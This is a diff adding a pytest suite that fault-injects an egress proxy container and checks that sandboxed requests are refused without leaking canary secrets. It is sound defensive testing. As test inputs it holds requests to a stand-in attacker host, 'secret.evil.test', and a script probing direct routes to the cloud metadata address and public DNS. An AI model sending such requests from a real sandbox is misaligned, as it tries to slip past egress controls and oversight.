@@ -1,0 +1,273 @@
+"""Group E on a real egress container: it breaks in every place, and nothing gets out."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+
+import docker
+import pytest
+
+from tests.engine import Images
+from tests.sandbox.egress.rig import (
+    LAUNCH,
+    PYTHON,
+    REPOSITORY,
+    Egress,
+    Exchange,
+    StandIn,
+    World,
+    get,
+    policy_for,
+    post,
+    world,
+)
+
+pytestmark = pytest.mark.engine
+
+# The real launcher, with functions that raise while /tmp/fail names them. Name lookups are written down.
+BREAKABLE = r"""
+import pathlib, socket
+from sandbox.egress import addon, answer, door, headers, journal, launch, policy, scrub
+from sandbox.egress.dial import PinnedLoop
+
+def failing(name):
+    path = pathlib.Path("/tmp/fail")
+    return path.exists() and name in path.read_text().split()
+
+def breakable(owner, attribute):
+    real, name = getattr(owner, attribute), owner.__name__.rsplit(".")[-1] + "." + attribute
+    def either(*args, **kwargs):
+        if failing(name):
+            raise RuntimeError("CANARY-in-an-exception")
+        return real(*args, **kwargs)
+    setattr(owner, attribute, either)
+
+for owner, attribute in [
+    (policy, "decide"), (policy, "body_limit"), (policy, "shown_path"), (headers, "sent"), (headers, "answered"),
+    (headers.Credentials, "set_on"), (headers.Credentials, "masked"), (journal.Journal, "verdict"),
+    (journal.Journal, "answer"), (journal.Journal, "trouble"), (PinnedLoop, "pin"), (addon, "HttpLayer"),
+    (addon, "_request"), (addon, "_unwanted"), (scrub.Scrubber, "feed"), (scrub.Scrubber, "finish"),
+    (answer.Answer, "feed"), (answer.Answer, "complete"), (addon.Egress, "_rewrite"), (addon.Egress, "_end"),
+]:
+    breakable(owner, attribute)
+
+real = socket.getaddrinfo
+def lookup(*args, **kwargs):
+    with open("/tmp/lookups", "a") as out:
+        out.write(str(args[0]) + "\n")
+    return real(*args, **kwargs)
+socket.getaddrinfo = lookup
+launch.main()
+"""
+
+BEFORE_SENDING = [
+    "policy.decide", "policy.body_limit", "headers.sent", "Credentials.set_on", "Journal.verdict", "PinnedLoop.pin",
+    "addon.HttpLayer", "addon._request", "Egress._rewrite",
+]  # fmt: skip
+BEFORE_ANSWERING = ["headers.answered", "Credentials.masked", "addon._unwanted"]
+WHILE_ANSWERING = [
+    "Scrubber.feed",
+    "Answer.feed",
+    "Scrubber.finish",
+    "Answer.complete",
+    "Journal.answer",
+    "Egress._end",
+]
+
+
+@pytest.fixture(scope="module")
+def here(docker_client: docker.DockerClient, images: Images, instance: str) -> Iterator[World]:
+    with world(docker_client, images.egress, instance) as made:
+        yield made
+
+
+@pytest.fixture(scope="module")
+def model(here: World) -> Iterator[StandIn]:
+    upstream = StandIn(here.gateway)
+    yield upstream
+    upstream.close()
+
+
+@pytest.fixture(scope="module")
+def egress(here: World, model: StandIn) -> Egress:
+    return here.start(policy_for(model, model), command=[*PYTHON, BREAKABLE])
+
+
+def fail(egress: Egress, *names: str) -> None:
+    assert egress.container.exec_run(["sh", "-c", f"echo {' '.join(names)} > /tmp/fail"]).exit_code == 0
+
+
+@pytest.mark.parametrize("name", BEFORE_SENDING)
+def test_an_exception_before_sending_is_a_refusal(egress: Egress, model: StandIn, name: str) -> None:
+    fail(egress, name)
+    model.forget()
+    answers = egress.talk(
+        Exchange(post("/v1/messages", b"CANARY-body", "transfer-test: x")),
+        Exchange(get(f"/{REPOSITORY}.git/info/refs?service=git-upload-pack"), to="fetch/git.sock"),
+    )
+    assert [answer.status for answer in answers] == [403, 403]
+    assert b"CANARY-body" not in model.raw
+    assert model.requests == []
+    assert b"CANARY-in-an-exception" not in egress.container.logs()
+
+
+@pytest.mark.parametrize("name", ["policy.decide", "Journal.verdict", "addon.HttpLayer", "policy.shown_path"])
+def test_an_exception_while_refusing_is_a_refusal(egress: Egress, model: StandIn, name: str) -> None:
+    fail(egress, name)
+    model.forget()
+    own = f"{model.host}:{model.port}"
+    answers = egress.talk(
+        Exchange(f"CONNECT {own} HTTP/1.1\r\nHost: {own}\r\n\r\n".encode(), to="agent/general.sock"),
+        Exchange(f"GET http://{own}/ HTTP/1.1\r\nHost: {own}\r\n\r\n".encode(), to="agent/general.sock"),
+        Exchange(post("/v1/files")),
+    )
+    assert [answer.status for answer in answers] == [403, 403, 403]
+    assert model.connections == 0
+
+
+@pytest.mark.parametrize("name", BEFORE_ANSWERING)
+def test_an_exception_before_answering_shows_nothing_of_the_answer(egress: Egress, model: StandIn, name: str) -> None:
+    fail(egress, name)
+    answer = egress.say(post("/v1/messages"))
+    assert answer.status == 403
+    assert b"{}" not in answer.data
+
+
+@pytest.mark.parametrize("name", WHILE_ANSWERING)
+def test_an_exception_while_answering_ends_the_connection(egress: Egress, model: StandIn, name: str) -> None:
+    """What has been let through cannot be called back; what comes after it does not pass, and the egress lives on."""
+    fail(egress, name)
+    first = egress.say(post("/v1/messages") + post("/v1/messages"))
+    fail(egress, "nothing")
+    assert first.data.count(b"HTTP/1.1 200") <= 1
+    assert egress.say(post("/v1/messages"), until=b"{}").status == 200
+
+
+def test_e08_a_refused_name_is_never_looked_up(egress: Egress, model: StandIn) -> None:
+    fail(egress, "nothing")
+    egress.run("sh", "-c", ": > /tmp/lookups")
+    egress.talk(
+        Exchange(b"CONNECT secret.evil.test:443 HTTP/1.1\r\n\r\n", to="agent/general.sock"),
+        Exchange(b"GET http://secret.evil.test/ HTTP/1.1\r\nHost: x\r\n\r\n", to="agent/general.sock"),
+        Exchange(b"GET / HTTP/1.1\r\nHost: secret.evil.test\r\n\r\n", to="agent/general.sock"),
+        Exchange(b"POST http://secret.evil.test/v1/messages HTTP/1.1\r\nHost: x\r\ncontent-length: 0\r\n\r\n"),
+        Exchange(post("/v1/messages").replace(b"127.0.0.1:9001", b"secret.evil.test"), until=b"{}"),
+    )
+    looked_up = egress.run("cat", "/tmp/lookups").split()
+    assert set(looked_up) == {model.host}, "the control: the one allowed request was"
+
+
+def test_where_even_refusing_fails_the_process_ends(here: World, model: StandIn) -> None:
+    model.forget()
+    egress = here.start(policy_for(model), command=[*PYTHON, BREAKABLE])
+    fail(egress, "policy.decide", "Journal.trouble")
+    assert egress.say(post("/v1/messages")).status == 0
+    assert egress.container.wait(timeout=20)["StatusCode"] == 70
+    assert model.connections == 0
+
+
+BAD_FIRST_LINES = [
+    b"", b"\n", b"{}\n", b"[]\n", b"null\n", b'{"policy": {}, "secrets": {"model": "k", "fetch": ""}}\n', b"\xff\xfe\n",
+    b'{"policy": {"model": {"base_url": "http://api.test", "header": "x-api-key", "private": false, "ca_pem": ""},'
+    b' "git": null}, "secrets": {"model": "CANARY-key-0123456789", "fetch": ""}}\n',
+    b'{"policy": {"model": {"base_url": "https://api.test", "header": "x-api-key", "private": true, "ca_pem": "junk"},'
+    b' "git": null}, "secrets": {"model": "CANARY-key-0123456789", "fetch": ""}}\n',
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("line", BAD_FIRST_LINES)
+def test_e25_a_bad_policy_is_no_start(here: World, line: bytes) -> None:
+    """Missing altogether (10 s), empty, malformed, http without the operator's word, CA that is none."""
+    egress = Egress(here, LAUNCH, {})
+    here.made.append(egress)
+    egress.tell(line)
+    assert egress.container.wait(timeout=40)["StatusCode"] == 1
+    facts = egress.log()
+    assert [fact["event"] for fact in facts] == ["fatal"]
+    assert "CANARY" not in json.dumps(facts)
+    assert egress.say(post("/v1/messages")).status == 0
+
+
+def test_e25_nothing_replaces_the_policy_of_a_running_egress(egress: Egress, model: StandIn) -> None:
+    """No reload: later lines can only take away, and the code is out of this uid's reach."""
+    other = {"policy": {**policy_for(model), "git": None}, "secrets": {"model": "other-key-0123456789", "fetch": ""}}
+    model.forget()
+    egress.tell(json.dumps(other).encode() + b"\n" + b'{"do": "allow-all"}\n' + b"\xff\n")
+    egress.wait_for("trouble")
+    egress.say(post("/v1/messages"), until=b"{}")
+    assert model.requests[0].header("x-api-key") != ["other-key-0123456789"]
+    where = "/opt/gofer/venv/lib/python3.13/site-packages/sandbox/egress/policy.py"
+    assert egress.container.exec_run(["sh", "-c", f"echo >> {where}"]).exit_code != 0
+
+
+def test_drop_fetch_ends_fetching_and_nothing_else(here: World, model: StandIn) -> None:
+    egress = here.start(policy_for(model, model))
+    refs = get(f"/{REPOSITORY}.git/info/refs?service=git-upload-pack")
+    before = egress.say(refs, to="fetch/git.sock", until=b"{}")
+    egress.tell(b'{"do": "drop-fetch"}\n')
+    egress.wait_for("fetch-dropped")
+    model.forget()
+    after, still = egress.talk(Exchange(refs, to="fetch/git.sock"), Exchange(post("/v1/messages"), until=b"{}"))
+    assert (before.status, after.status, still.status) == (200, 403, 200)
+    assert after.text == "nothing can be fetched from this sandbox now\n"
+    assert [request.header("authorization") for request in model.requests] == [[]]
+    assert egress.report().fetch_dropped
+
+
+def test_e28_without_the_egress_there_is_no_other_way(here: World, model: StandIn) -> None:
+    """Frozen, then killed: the sockets are all there was."""
+    egress = here.start(policy_for(model))
+    model.forget()
+    egress.container.pause()
+    frozen = egress.talk(Exchange(post("/v1/messages")))[0]
+    egress.container.unpause()
+    egress.container.kill()
+    dead = egress.say(post("/v1/messages"))
+    assert (frozen.status, frozen.error) == (0, "TimeoutError")
+    assert (dead.status, dead.error) == (0, "ConnectionRefusedError")
+
+
+def test_e28_an_egress_without_memory_dies_and_is_not_open(here: World, model: StandIn) -> None:
+    egress = here.start(policy_for(model))
+    model.forget()
+    egress.container.update(mem_limit="24m", memswap_limit="24m")
+    answers = [egress.say(post("/v1/files", b"x" * 1000), zeros=0) for _ in range(3)]
+    assert {answer.status for answer in answers} <= {0, 403}
+    assert model.connections == 0
+
+
+def test_e02_a_client_that_ignores_the_proxy_has_no_route(egress: Egress, model: StandIn) -> None:
+    """No interface but loopback: not the upstream, not the host, not a name server, not even UDP."""
+    script = f"""
+import json, socket
+def tried(kind, address):
+    s = socket.socket(socket.AF_INET, kind); s.settimeout(5)
+    try:
+        s.connect(address); s.send(b"CANARY-direct"); return "sent"
+    except OSError as e:
+        return type(e).__name__
+    finally:
+        s.close()
+hosts = [("{model.host}", {model.port}), ("172.17.0.1", 22), ("8.8.8.8", 53), ("169.254.169.254", 80), ("1.1.1.1", 443)]
+out = [tried(kind, host) for host in hosts for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)]
+try:
+    out.append(str(socket.getaddrinfo("api.anthropic.com", 443)))
+except OSError as e:
+    out.append(type(e).__name__)
+print(json.dumps([out, [name for _, name in socket.if_nameindex()]]))
+"""
+    model.forget()
+    container = egress.world.client.containers.create(
+        egress.world.image, [*PYTHON, script], labels=egress.world.labels("agent"), network_mode="none"
+    )
+    try:
+        container.start()
+        container.wait(timeout=60)
+        results, interfaces = json.loads(container.logs(stderr=False))
+    finally:
+        container.remove(force=True)
+    assert "sent" not in results
+    assert all("rror" in result for result in results)
+    assert interfaces == ["lo"]
+    assert model.connections == 0
